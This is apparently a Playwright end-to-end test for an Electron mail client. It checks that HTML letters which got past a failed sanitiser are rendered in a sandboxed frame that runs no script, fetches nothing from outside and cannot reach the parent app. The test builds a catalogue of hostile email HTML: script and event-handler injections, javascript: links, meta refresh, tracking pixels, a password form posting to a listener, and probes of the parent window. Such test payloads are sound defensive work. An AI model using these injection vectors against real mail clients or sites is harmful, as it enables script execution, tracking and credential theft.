import type { Frame, Page } from '@playwright/test'
import { startMailLab, type MailLab } from '../lab/mail/support/mail-lab.ts'
import { must, until } from '../support/desk.ts'
import { expect, test } from '../support/e2e.ts'
import { noLabBecause } from '../support/lab.ts'
import { startListener, type Listener } from '../support/listener.ts'
import { mailHome } from '../support/mail-home.ts'

const none = noLabBecause()
test.skip(none !== undefined, none ?? '')

let lab: MailLab
let outside: Listener
test.beforeAll(async () => {
  lab = await startMailLab()
  outside = await startListener()
})
test.afterAll(async () => {
  outside.close()
  await lab.stop()
})

/** Writes down in the letter that it ran, and in which way; then tries to read what is around it. */
const ran = (how: string): string =>
  `document.documentElement.dataset.ran='${how}';try{document.documentElement.dataset.read=parent.document.title+top.location+Object.keys(parent.courtesy)}catch{}`

/** Everything a letter could try that came past the sanitiser as it was written. `url` is the listener outside. */
const hostile = (url: string): string => `<!doctype html><html><head>
<base href="${url}/base/" target="_top">
<meta http-equiv="refresh" content="2;url=${url}/refresh">
<link rel="stylesheet" href="${url}/style.css"><link rel="preload" as="image" href="${url}/preload"><link rel="preconnect" href="${url}">
<style>@import "${url}/import.css";@font-face{font-family:f;src:url(${url}/font)}body{font-family:f;background:url(${url}/background)}</style>
<script>${ran('script')};fetch('${url}/fetch');new Image().src='${url}/beacon';try{courtesy.call('app.snapshot',null)}catch{}</script>
<script src="${url}/script.js"></script><script type="module">${ran('module')}</script>
</head><body onload="${ran('onload')}">
<h1>You have won</h1>
<img src="${url}/pixel.gif" width="1" height="1"><img src="x" onerror="${ran('onerror')}">
<picture><source srcset="${url}/srcset"><img alt=""></picture><video poster="${url}/poster" src="${url}/video" autoplay></video>
<svg onload="${ran('svg')}"><image href="${url}/svg"/><script>${ran('svg script')}</script></svg>
<details open ontoggle="${ran('ontoggle')}"><summary>More</summary></details><input autofocus onfocus="${ran('onfocus')}">
<iframe src="${url}/frame"></iframe><iframe src="app://desk/desk/index.html"></iframe>
<iframe srcdoc="&lt;script&gt;parent.document.documentElement.dataset.ran='srcdoc'&lt;/script&gt;&lt;img src='${url}/srcdoc'&gt;"></iframe>
<object data="${url}/object"></object><embed src="${url}/embed">
<form action="${url}/form" target="_top"><input name="password" value="secret"><button>Sign in</button></form>
<a href="javascript:${ran('javascript link')}" target="_self">Run it</a>
<a href="${url}/top" target="_top" ping="${url}/ping">Take it</a>
</body></html>`

/** Waits for the frame that shows this address. */
async function frameAt(desk: Page, url: string): Promise<Frame> {
  await expect.poll(() => desk.frames().some((each) => each.url() === url)).toBe(true)
  return desk.frames().find((each) => each.url() === url)!
}

/** Opens the newest letter of this subject. */
async function open(desk: Page, subject: string): Promise<void> {
  await desk.getByRole('list', { name: 'Conversations' }).getByText(subject).click({ timeout: 30_000 })
}

test('a letter past a failed sanitiser runs nothing, reaches nobody and reads nothing', async ({ home, start }) => {
  const { desk, electron } = await start(mailHome(home, lab))
  const complaints: string[] = []
  desk.on('console', (message) => complaints.push(message.text()))
  await until(desk, 'the mailbox is in sync', ({ mailboxes }) => mailboxes[0]?.state === 'idle', 60_000)
  const pixels = `<p>Two pictures</p><img src="${outside.url}/real-1.gif"><img src="${outside.url}/real-2.gif">`
  await lab.mail.send({ from: 'x@customer.test', to: 'service@toll.test', subject: 'With pictures', html: pixels })
  await lab.mail.send({
    from: 'y@customer.test',
    to: 'service@toll.test',
    subject: 'Only text',
    text: 'Dear all,\n\n<b>this</b> is 5 < 6.\n  Indented: https://a.example/x?y=1.\n',
  })
  await desk.getByRole('link', { name: /^Mail/ }).click()
  const letter = desk.getByRole('region', { name: 'Message', exact: true })
  const paper = desk.frameLocator('iframe[title="Letter"]')

  await test.step('a letter of text alone is readable as it was written', async () => {
    await open(desk, 'Only text')
    await expect(paper.locator('body')).toContainText('<b>this</b> is 5 < 6.\n  Indented: https://a.example/x?y=1.', {
      useInnerText: true,
    })
    await expect(paper.locator('b')).toHaveCount(0)
    await expect(paper.getByRole('link')).toHaveAttribute('href', 'https://a.example/x?y=1')
    await expect(letter).not.toContainText('outside picture')
  })

  await test.step('pictures from outside are counted, said and not fetched', async () => {
    await open(desk, 'With pictures')
    await expect(
      letter.getByText('2 outside pictures were not loaded, so nobody learns that you read this.', { exact: true }),
    ).toBeVisible()
    await expect(paper.getByText('Two pictures')).toBeVisible()
    expect(outside.heard).toEqual([])
  })

  await test.step('the view itself is powerless: it holds what the sanitiser let through', async () => {
    const { items } = await must(desk, 'mail.conversations', { cursor: null })
    const { messages } = await must(desk, 'mail.conversation', { id: items[0]?.id ?? '' })
    const { url } = await must(desk, 'letter.show', { messageId: messages[0]?.id ?? '', html: hostile(outside.url) })
    const view = letter.locator('iframe[title="Letter"]')
    await expect(view).toHaveAttribute('sandbox', 'allow-popups')
    const before = desk.url()
    const windows = await electron.evaluate(({ webContents }) => webContents.getAllWebContents().length)
    complaints.length = 0
    await view.evaluate((element, to) => element.setAttribute('src', to), url)
    const frame = await frameAt(desk, url)
    await expect(paper.getByText('You have won')).toBeVisible()
    await desk.waitForTimeout(700)
    expect(await frame.evaluate('({ ...document.documentElement.dataset })'), 'nothing ran').toEqual({})
    expect(outside.heard, 'no request left, not even a connection').toEqual([])
    for (const name of ['Run it', 'Sign in', 'Take it']) {
      // None of them leads away, so a click is all there is to wait for.
      await paper.getByText(name, { exact: true }).click({ noWaitAfter: true })
      await desk.keyboard.press('Escape')
    }
    await desk.waitForTimeout(2000)

    expect(frame.url(), 'neither a click nor the refresh led away').toBe(url)
    expect(await frame.evaluate('({ ...document.documentElement.dataset })')).toEqual({})
    // The walls behind: with a script of its own it would still be alone.
    expect(await frame.evaluate('[origin, typeof window.courtesy, typeof require]')).toEqual(['null', 'undefined', 'undefined'])
    for (const reach of ['parent.document.title', 'top.document.body.innerHTML', 'parent.courtesy', 'parent.localStorage'])
      expect(
        await frame.evaluate(`(() => { try { return String(${reach}) } catch (error) { return error.name } })()`),
        reach,
      ).toBe('SecurityError')
    expect(await frame.evaluate(`fetch('${outside.url}/asked').then(() => 'loaded', () => 'refused')`)).toBe('refused')
    // Each wall told of what it stopped, so none of them stands only because of the others.
    for (const wall of ['allow-scripts', 'allow-forms', 'img-src app://letter', "default-src 'none'", 'base-uri'])
      expect(complaints.join('\n'), wall).toContain(wall)
    expect(outside.heard).toEqual([])
    expect(desk.url()).toBe(before)
    expect(await electron.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(windows)
    await expect(desk.getByRole('dialog')).toHaveCount(0)
    await desk.getByRole('list', { name: 'Conversations' }).getByText('Only text').click()
    await expect(paper.locator('body')).toContainText('Dear all')
  })
})
